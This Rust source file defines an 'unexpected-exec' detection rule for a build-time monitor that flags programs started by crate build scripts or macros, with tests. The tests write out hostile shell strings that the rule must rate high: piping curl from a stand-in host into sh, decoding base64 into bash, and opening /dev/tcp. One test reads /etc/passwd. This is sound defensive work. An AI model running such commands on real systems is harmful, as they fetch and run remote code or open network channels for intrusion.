//! `unexpected-exec`: a program that the policy does not expect of this unit.

use serde_json::json;
use sha2::{Digest as _, Sha256};

use super::{Code, push};
use crate::evidence::Bytes;
use crate::evidence::line::ProgramFile;
use crate::ids::Sha256Digest;
use crate::judge::context::{Context, Tried, Who, program};
use crate::judge::finding::{Draft, actor, short, stable};
use crate::judge::paths::file_name;
use crate::judge::shell::{self, Given};
use crate::policy::{Role, Severity};

pub(crate) const CODE: Code = Code {
    name: "unexpected-exec",
    severity: "medium; a shell or interpreter with its text as a direct child low, and a shell medium when the text \
               comes by standard input; a text that downloads, decodes into an interpreter, opens /dev/tcp or names a temporary \
               path high",
    attack: &["T1059"],
    meaning: "Code that runs at build time started a program that builds are not known to start there: a download \
              tool, a shell with a text of its own, or something that the policy has never heard of.",
    honest: "Rare code generators, and crates that fetch a prebuilt library by curl.",
    action: "Read the arguments in the evidence. Programs below make, ninja, cmake or configure are not reported.",
    rule,
};

/// Why a start is a finding.
enum Reason {
    Unknown,
    Download,
    ShellText,
    /// What it runs comes by standard input, so that no argument tells it. A shell's text joins programs of which each
    /// is expected; an interpreter acts by calls of its own, and starts what is judged like any start.
    UnseenText {
        joins_programs: bool,
    },
    AlarmingText(&'static str),
}

fn rule(cx: &Context<'_>, out: &mut Vec<Draft>) {
    for tried in &cx.tried {
        let Some((object, argv, file)) = program(tried) else { continue };
        if tried.is_first || super::fileless_exec::is_fileless(tried) {
            continue;
        }
        let name = file_name(&object.path.0);
        let Some(reason) = reason(cx, tried, argv, file) else { continue };
        let (severity, attack) = match reason {
            Reason::Unknown => (Severity::Medium, vec!["T1059"]),
            Reason::Download => (Severity::Medium, vec!["T1105"]),
            Reason::ShellText => (Severity::Low, vec!["T1059.004"]),
            Reason::UnseenText { joins_programs: true } => (Severity::Medium, vec!["T1059.004"]),
            Reason::UnseenText { joins_programs: false } => (Severity::Low, vec!["T1059"]),
            Reason::AlarmingText(_) => (Severity::High, vec!["T1059.004", "T1105"]),
        };
        let subject = subject(cx, tried, name, argv, &reason);
        let is_absent = file == ProgramFile::Absent;
        let what = match reason {
            Reason::Unknown | Reason::Download if is_absent => {
                format!("{} tried to start {subject}, which is not there", actor(tried))
            }
            Reason::Unknown | Reason::Download => format!("{} tried to start {subject}", actor(tried)),
            Reason::ShellText => format!("{} tried to run a text of its own by {}", actor(tried), Bytes::from(name)),
            Reason::UnseenText { .. } => {
                format!("{} tried to have {subject} run what it gives it on standard input", actor(tried))
            }
            Reason::AlarmingText(why) => format!("{} tried to run a text that {why}: {subject}", actor(tried)),
        };
        let shown: Vec<_> = argv.iter().take(16).cloned().collect();
        let draft = Draft::new(cx, tried, CODE.name, severity).map(|draft| {
            let object = json!({"program": Bytes::from(tried.path.as_slice()), "argv": shown, "present": !is_absent});
            let mut draft = draft.about(subject.clone(), object).says(what).attack(&attack);
            // A search over PATH is told by where it led, if it led anywhere.
            draft.is_faint = is_absent;
            if matches!(reason, Reason::Download | Reason::AlarmingText(_)) { draft.egress() } else { draft }
        });
        push(out, draft);
    }
}

fn reason(cx: &Context<'_>, tried: &Tried<'_>, argv: &[Bytes], file: ProgramFile) -> Option<Reason> {
    let (role, units) = known(cx, tried)?;
    let below_driver = cx.is_below_driver(tried);
    match role {
        Some(Role::Download) => Some(Reason::Download),
        Some(Role::Shell | Role::Interpreter) => {
            let joins_programs = role == Some(Role::Shell);
            let given = shell::given(&tried.path, argv);
            let Given::Text(text) = given else {
                return if below_driver {
                    None
                } else if !units.contains(&tried.unit.kind()) {
                    Some(Reason::Unknown)
                } else {
                    // Below a shell the text of that shell tells what goes through its pipes.
                    (given == Given::Input && is_by_unseen_text(tried)).then_some(Reason::UnseenText { joins_programs })
                };
            };
            if let Some(why) =
                shell::alarm(text, &|path| tried.unit.owns(path) || tried.unit.in_source(path), below_driver)
            {
                Some(Reason::AlarmingText(why))
            } else if below_driver {
                None
            } else if !units.contains(&tried.unit.kind()) {
                Some(Reason::Unknown)
            } else {
                // Something known in between, such as pkg-config or rustc, is the one that uses the shell.
                is_direct(cx, tried).then_some(Reason::ShellText)
            }
        }
        Some(_) if units.is_empty() || units.contains(&tried.unit.kind()) || below_driver => None,
        Some(Role::Utility | Role::Git) if is_below_git(cx, tried) => None,
        None if below_driver || !is_program_of_system(cx, tried, file) => None,
        None if super::exec_dropped_file::is_dropped(cx, tried, &tried.path, file) => None,
        _ => Some(Reason::Unknown),
    }
}

/// Some of git's commands are scripts, which use git, sed and the like. A shell text or another program that git was told
/// to start is none of these.
fn is_below_git(cx: &Context<'_>, tried: &Tried<'_>) -> bool {
    let callers = std::iter::once(&tried.attempt.exe).chain(&tried.attempt.lineage);
    callers.into_iter().any(|exe| cx.policy.role(&exe.0) == Some(Role::Git))
}

/// True for callers whose own text no argument tells: compiled code, and interpreters.
fn is_by_unseen_text(tried: &Tried<'_>) -> bool {
    matches!(tried.who, Who::Subject | Who::Known(Role::Interpreter))
}

/// The role of the program and the units that may start it. Outer none: another code speaks of it.
fn known<'a>(cx: &Context<'a>, tried: &Tried<'_>) -> Option<(Option<Role>, &'a [crate::evidence::line::UnitKind])> {
    let (object, argv, _) = program(tried)?;
    let by_name = || {
        let applet = shell::applet(&tried.path, argv).and_then(|name| cx.policy.program_named(name));
        applet
            .or_else(|| cx.policy.program_named(file_name(&tried.path)))
            .or_else(|| cx.policy.program_named(file_name(&object.path.0)))
    };
    if cx.policy.is_system(&tried.path) || is_searched(cx, tried) {
        Some(by_name().map_or((None, &[][..]), |(role, units)| (Some(role), units)))
    } else {
        Some((None, &[]))
    }
}

/// A search over PATH asks for a program by its name also where nothing is, such as in folders that only the user's
/// machine has. What somebody made there is asked for by its place.
fn is_searched(cx: &Context<'_>, tried: &Tried<'_>) -> bool {
    let path = tried.path.as_slice();
    let is_absent = program(tried).is_some_and(|(_, _, file)| file == ProgramFile::Absent);
    let is_shared = cx.in_tmp(path) || cx.in_home(path) || is_of_build(cx, tried);
    (is_search_folder(cx, path) || (is_absent && !is_shared)) && cx.writers(path).next().is_none()
}

/// Folders of PATH inside the home. A search over PATH tries each of them, also where nothing is.
fn is_search_folder(cx: &Context<'_>, path: &[u8]) -> bool {
    let layout = cx.layout();
    let folder = path.get(..path.len().saturating_sub(file_name(path).len() + 1)).unwrap_or_default();
    [format!("{}/bin", layout.cargo_home), format!("{}/.local/bin", layout.home), format!("{}/bin", layout.home)]
        .iter()
        .any(|place| place.as_bytes() == folder)
}

/// Files of the build itself are other codes' business: own products, own source, other packages' tools.
fn is_program_of_system(cx: &Context<'_>, tried: &Tried<'_>, file: ProgramFile) -> bool {
    let path = tried.path.as_slice();
    if is_of_build(cx, tried) {
        return false;
    }
    let is_elsewhere = cx.in_tmp(path) || cx.in_home(path);
    // What is there is a dropped file; what is not there was only asked for.
    !is_elsewhere || is_search_folder(cx, path) || file == ProgramFile::Absent
}

fn is_of_build(cx: &Context<'_>, tried: &Tried<'_>) -> bool {
    let path = tried.path.as_slice();
    tried.unit.owns(path) || cx.in_target(path) || cx.in_sources(path) || path.starts_with(b"/proc/")
}

/// True if the caller is the unit's own code.
fn is_direct(cx: &Context<'_>, tried: &Tried<'_>) -> bool {
    let caller = tried.attempt.lineage.first().map_or(tried.attempt.exe.0.as_slice(), |exe| exe.0.as_slice());
    matches!(cx.policy.role(caller), None | Some(Role::Shell | Role::Interpreter | Role::Utility))
}

/// Bytes of a text that a subject shows.
const SHOWN: usize = 120;

/// The beginning of the SHA-256 of a text, without what differs between versions and runs.
fn digest(cx: &Context<'_>, tried: &Tried<'_>, text: &[u8]) -> String {
    let stable = tried.unit.package.as_ref().or(cx.subject()).map(|id| stable(cx, id, text));
    let digest = Sha256Digest(Sha256::digest(stable.as_deref().unwrap_or(text)).into()).hex();
    digest.chars().take(12).collect()
}

/// One subject for a program wherever PATH led, and one for each text.
fn subject(cx: &Context<'_>, tried: &Tried<'_>, name: &[u8], argv: &[Bytes], reason: &Reason) -> Bytes {
    match reason {
        Reason::ShellText | Reason::AlarmingText(_) => {
            let Given::Text(text) = shell::given(&tried.path, argv) else { return Bytes::from(name) };
            let shown: Vec<u8> = text.iter().copied().take(SHOWN).collect();
            // Two long texts that begin alike are two.
            let rest = if text.len() > SHOWN { format!(" #{}", digest(cx, tried, text)) } else { String::new() };
            Bytes([name, b" -c ", &shown, rest.as_bytes()].concat())
        }
        _ if cx.policy.is_system(&tried.path) || is_search_folder(cx, &tried.path) || is_searched(cx, tried) => {
            Bytes::from(shell::applet(&tried.path, argv).unwrap_or(name))
        }
        _ => short(cx, &tried.path),
    }
}

#[cfg(test)]
mod tests {
    use crate::evidence::line::{ProgramFile, UnitKind};
    use crate::evidence::testing::{LogBuilder, OUT, RUSTC, SCRIPT, SOURCE, UnitBuilder};
    use crate::judge::codes::testing::{found, script};
    use crate::judge::judge;
    use crate::policy::Policy;

    #[test]
    fn an_unknown_program_is_medium() {
        assert_eq!(script(|u| u.run(&["/usr/bin/whoami"])), ["unexpected-exec medium whoami"]);
    }

    #[test]
    fn a_search_over_path_is_one_finding_or_none() {
        let search = |name: &str| {
            script(|u| {
                u.exec(ProgramFile::Absent, &[&format!("/home/dev/.cargo/bin/{name}")], &[])
                    .exec(ProgramFile::Absent, &[&format!("/usr/local/bin/{name}")], &[])
                    .run(&[&format!("/usr/bin/{name}")])
            })
        };
        assert!(search("cc").is_empty());
        assert_eq!(search("whoami"), ["unexpected-exec medium whoami"]);
    }

    #[test]
    fn a_search_in_folders_that_are_not_inside_is_nothing_but_for_what_is_a_finding_anywhere() {
        let absent = |path: &str| script(|u| u.exec(ProgramFile::Absent, &[path], &[]));
        assert!(absent("/srv/me/.local/bin/cc").is_empty());
        assert!(absent("/root/.local/bin/cmake").is_empty());
        assert_eq!(absent("/srv/me/bin/curl"), ["unexpected-exec medium curl"]);
        assert_eq!(absent("/srv/me/bin/whoami"), ["unexpected-exec medium whoami"]);
        assert_eq!(absent("/tmp/x/cc"), ["unexpected-exec medium /tmp/x/cc"]);
        assert_eq!(absent("/home/dev/x/cc"), ["unexpected-exec medium ~/x/cc"]);
        let made = |u: UnitBuilder| u.write("/srv/x/cc").exec(ProgramFile::Absent, &["/srv/x/cc"], &[]);
        assert_eq!(script(made), ["exec-dropped-file high /srv/x/cc", "write-outside medium /srv/x/cc"]);
    }

    #[test]
    fn programs_that_the_user_let_in_are_what_their_names_say() {
        let judged = |given: &[&str], path: &str| {
            let log = LogBuilder::new().given(given).build_script("u", |u| {
                u.run(&[path, "x"]).by(path).exec(ProgramFile::Elf, &["/bin/sh", "-c", "cd x && ./y"], &[path, SCRIPT])
            });
            found(&log.log())
        };
        assert!(judged(&["/srv/cmake"], "/srv/cmake/bin/cmake").is_empty());
        assert!(judged(&["/tmp/tools"], "/tmp/tools/cmake").is_empty());
        assert_eq!(judged(&["/srv/cmake"], "/srv/cmake/bin/curl")[0], "unexpected-exec medium curl");
        assert_eq!(judged(&["/srv/cmake"], "/srv/cmake/bin/whoami")[0], "unexpected-exec medium whoami");
        assert!(!judged(&["/srv/cmake"], "/srv/cmake2/bin/cmake").is_empty());
        assert!(!judged(&[], "/srv/cmake/bin/cmake").is_empty());
    }

    #[test]
    fn what_gits_own_scripts_start_is_gits_and_what_it_is_told_to_start_is_not() {
        let log = |kind: UnitKind, argv: &[&str], lineage: &[&str]| {
            let macros = |u: UnitBuilder| u.by(lineage[0]).exec(ProgramFile::Elf, argv, lineage);
            found(&LogBuilder::new().proc_macro(&["D"]).rustc(kind, macros).log())
        };
        let kind = UnitKind::DriveMacros;
        let script = ["/usr/bin/dash", "/usr/bin/git", RUSTC];
        for argv in [&["/usr/lib/git-core/git", "rev-parse"][..], &["/usr/bin/sed", "s/a/b/"], &["/usr/bin/uname"]] {
            assert!(log(kind, argv, &script).is_empty(), "{argv:?}");
        }
        assert!(log(kind, &["/usr/bin/git", "describe"], &[RUSTC]).is_empty());
        assert_eq!(log(kind, &["/usr/bin/sed", "s/a/b/"], &[RUSTC]), ["unexpected-exec medium sed"]);
        let git = ["/usr/bin/git", RUSTC];
        for argv in [&["/usr/bin/whoami"][..], &["/usr/bin/curl", "x.invalid"], &["/bin/sh", "-c", "true"]] {
            let name = argv[0].rsplit('/').next().unwrap();
            assert_eq!(log(kind, argv, &git), [format!("unexpected-exec medium {name}")]);
        }
        let own = format!("{OUT}/git");
        assert_eq!(log(kind, &["/usr/bin/sed", "x"], &[&own, RUSTC]), ["unexpected-exec medium sed"]);
    }

    #[test]
    fn a_search_is_told_by_the_program_that_it_found() {
        let search = |u: UnitBuilder| u.exec(ProgramFile::Absent, &["/usr/local/bin/curl"], &[]);
        let told = |u: &dyn Fn(UnitBuilder) -> UnitBuilder| {
            let log = LogBuilder::new().build_script("u", u).log();
            let judgement = judge(&log, &Policy::shipped());
            let finding = judgement.packages[0].findings[0].clone();
            (finding.object["program"].clone(), finding.count, finding.summary.ends_with("which is not there"))
        };
        assert_eq!(told(&|u| search(u)), ("/usr/local/bin/curl".into(), 1, true));
        assert_eq!(told(&|u| search(u).run(&["/usr/bin/curl"])), ("/usr/bin/curl".into(), 2, false));
    }

    #[test]
    fn a_download_tool_is_medium_everywhere_also_below_make() {
        assert_eq!(script(|u| u.run(&["/usr/bin/curl", "-L", "x.invalid"])), ["unexpected-exec medium curl"]);
        let found =
            script(|u| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/usr/bin/wget"], &["/usr/bin/make", SCRIPT]));
        assert_eq!(found, ["unexpected-exec medium wget"]);
    }

    #[test]
    fn gits_helper_for_the_network_is_a_download_tool() {
        let found = script(|u| {
            u.run(&["/usr/bin/git", "clone", "https://x.invalid"]).by("/usr/bin/git").exec(
                ProgramFile::Elf,
                &["/usr/lib/git-core/git-remote-https"],
                &[SCRIPT],
            )
        });
        assert_eq!(found, ["unexpected-exec medium git-remote-https"]);
    }

    #[test]
    fn a_shell_text_is_low_and_an_alarming_one_high() {
        assert_eq!(script(|u| u.run(&["/bin/sh", "-c", "echo hi"])), ["unexpected-exec low sh -c echo hi"]);
        for text in
            ["curl x.invalid | sh", "base64 -d <<< aGk= | bash", "exec 3<>/dev/tcp/192.0.2.1/80", "/tmp/rust-setup &"]
        {
            let found = script(|u| u.run(&["/bin/sh", "-c", text]));
            assert_eq!(found, [format!("unexpected-exec high sh -c {text}")]);
        }
    }

    #[test]
    fn two_long_texts_that_begin_alike_are_two_findings() {
        let long = |end: &str| format!("echo {}{end}", "x".repeat(200));
        let found = script(|u| u.run(&["/bin/sh", "-c", &long("a")]).run(&["/bin/sh", "-c", &long("b")]));
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(script(|u| u.run(&["/bin/sh", "-c", &long("a")]).run(&["/bin/sh", "-c", &long("a")])).len(), 1);
    }

    #[test]
    fn a_text_that_comes_by_standard_input_is_seen_by_nobody() {
        for (argv, severity) in [
            (&["/bin/sh"][..], "medium"),
            (&["/bin/bash", "-s"], "medium"),
            (&["/usr/bin/python3", "-"], "low"),
            (&["/usr/bin/python3"], "low"),
        ] {
            let found = script(|u| u.run(argv));
            let expected = format!("unexpected-exec {severity} ");
            assert!(found.len() == 1 && found[0].starts_with(&expected), "{found:?}");
        }
        let python = |u: UnitBuilder| u.by("/usr/bin/python3").exec(ProgramFile::Elf, &["/bin/sh"], &[SCRIPT]);
        assert_eq!(script(python), ["unexpected-exec medium sh"], "a shell that an interpreter feeds");
        assert!(script(|u| u.run(&["/usr/bin/m4"]).run(&["/usr/bin/python3", "--version"])).is_empty());
        let piped = |u: UnitBuilder| u.by("/usr/bin/dash").exec(ProgramFile::Elf, &["/bin/sh"], &[SCRIPT]);
        assert!(script(piped).is_empty());
        let below =
            |u: UnitBuilder| u.by("/usr/bin/make").exec(ProgramFile::Elf, &["/bin/sh"], &["/usr/bin/make", SCRIPT]);
        assert!(script(below).is_empty());
    }

    #[test]
    fn a_download_tool_inside_busybox_is_one() {
        for argv in [&["/bin/busybox", "wget", "x.invalid"][..], &["/bin/busybox", "nc"]] {
            let found = script(|u| u.run(argv));
            assert_eq!(found, [format!("unexpected-exec medium {}", argv[1])]);
        }
        assert!(script(|u| u.run(&["/bin/busybox", "sed", "s/a/b/"])).is_empty());
    }

    #[test]
    fn a_build_of_c_code_starts_many_programs_and_none_is_unexpected() {
        assert!(
            script(|u| {
                u.run(&["/usr/bin/x86_64-linux-gnu-gcc-13", "-E", "x.c"])
                    .by("/usr/bin/x86_64-linux-gnu-gcc-13")
                    .run(&["/usr/libexec/gcc/x86_64-linux-gnu/13/cc1", "x.c"])
                    .run(&["/usr/bin/x86_64-linux-gnu-as", "x.s"])
                    .by(SCRIPT)
                    .run(&[RUSTC, "-vV"])
                    .run(&["/usr/bin/pkg-config", "--libs", "zlib"])
                    .run(&["/usr/bin/git", "describe"])
                    .run(&["/usr/bin/perl", "./Configure"])
                    .exec(ProgramFile::Script, &[&format!("{SOURCE}/configure")], &[])
                    .exec(ProgramFile::Script, &["/bin/sh", &format!("{SOURCE}/configure")], &[])
                    .run(&["/usr/bin/cmake", "--build", "."])
            })
            .is_empty()
        );
    }

    #[test]
    fn below_make_anything_may_run_and_texts_are_ordinary() {
        assert!(
            script(|u| {
                u.by("/usr/bin/make")
                    .exec(ProgramFile::Elf, &["/bin/sh", "-c", "cd x && ./mkfoo > /tmp/y"], &[SCRIPT])
                    .exec(ProgramFile::Elf, &["/usr/bin/whoami"], &[SCRIPT])
            })
            .is_empty()
        );
    }

    #[test]
    fn a_configure_script_may_start_what_it_likes() {
        assert!(
            script(|u| {
                u.run(&["/bin/sh", &format!("{SOURCE}/configure")])
                    .by("/usr/bin/dash")
                    .exec(ProgramFile::Elf, &["/usr/bin/hostname"], &[SCRIPT])
                    .exec(ProgramFile::Elf, &["/bin/sh", "-c", "exit 0"], &[SCRIPT])
            })
            .is_empty()
        );
    }

    #[test]
    fn rustc_links_but_a_macro_that_starts_a_program_is_a_finding() {
        let log = |argv: &[&str]| {
            LogBuilder::new().proc_macro(&["D"]).rustc(UnitKind::CompileConsumer, |u| u.run(&[RUSTC]).run(argv)).log()
        };
        assert!(found(&log(&["/usr/bin/cc", "-o", "x"])).is_empty());
        assert_eq!(found(&log(&["/usr/bin/cat", "x"])), ["unexpected-exec medium cat"]);
        assert_eq!(found(&log(&["/bin/sh", "-c", "true"])), ["unexpected-exec medium sh"]);
    }

    #[test]
    fn the_units_own_start_is_ours() {
        assert!(script(|u| u.by("/run/sandbox-check/shim").run(&[SCRIPT]).by(SCRIPT).open("/etc/passwd")).is_empty());
    }

    #[test]
    fn own_products_and_scripts_are_no_unknown_programs() {
        let test = format!("{OUT}/conftest");
        assert!(
            script(|u| {
                u.run(&["/usr/bin/cc", "-o", "conftest"])
                    .by("/usr/bin/ld")
                    .write(test.as_str())
                    .by(SCRIPT)
                    .run(&[test.as_str()])
                    .exec(ProgramFile::Script, &[&format!("{OUT}/config.status")], &[])
            })
            .is_empty()
        );
    }
}
